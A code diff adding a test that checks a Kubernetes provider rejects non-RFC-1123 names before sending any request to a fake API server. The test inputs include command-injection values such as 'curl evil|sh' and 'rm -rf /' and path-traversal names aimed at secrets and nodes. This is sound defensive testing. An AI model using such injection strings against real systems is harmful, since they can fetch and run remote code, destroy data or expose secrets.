@@ -371,6 +371,34 @@ describe("kubernetes provider against the fake API server", () => {
     expect(await k8s.getNode("node-404")).toBeNull();
   });
 
+  it("refuses names that are not RFC 1123 before any request: `..` never widens a call to the whole cluster", async () => {
+    const before = fake.requests.length;
+    const attempts: Array<Promise<unknown>> = [
+      k8s.getPod("..", "api-7d9-abcde"),
+      k8s.listPods("..", "app=api"),
+      k8s.listPods(ns, "app=api;x=$(id)"),
+      k8s.listEvents("..", "api-7d9-abcde"),
+      k8s.listEvents(ns, "../../nodes"),
+      k8s.resolveOwnerWorkload(ns, "a/../../b"),
+      k8s.getWorkload(ns, "Deployment", ".."),
+      k8s.getPodLogs(ns, "api-7d9-abcde", { container: "app;rm -rf /" }),
+      k8s.getNode("node-1/../../secrets"),
+      k8s.getPod("monitoring;curl evil|sh", "x"),
+      k8s.getHorizontalPodAutoscaler("..", "api"),
+      k8s.getHorizontalPodAutoscaler(ns, "a/../../b"),
+      k8s.listResourceQuotas(".."),
+      k8s.getPersistentVolumeClaim(ns, ".."),
+      k8s.getPersistentVolume("pv-1/../../secrets"),
+      k8s.listEventsByReason("..", "FailedCreate"),
+      k8s.listEventsByReason(ns, "FailedCreate,involvedObject.name=x"),
+    ];
+    for (const attempt of attempts) {
+      const e = await rejection(attempt);
+      expect(e.code).toBe("invalid_input");
+    }
+    expect(fake.requests.slice(before)).toEqual([]);
+  });
+
   it("never sent anything but GET", () => {
     expect(fake.requests.length).toBeGreaterThan(20);
     expect(fake.requests.filter((r) => r.method !== "GET")).toEqual([]);
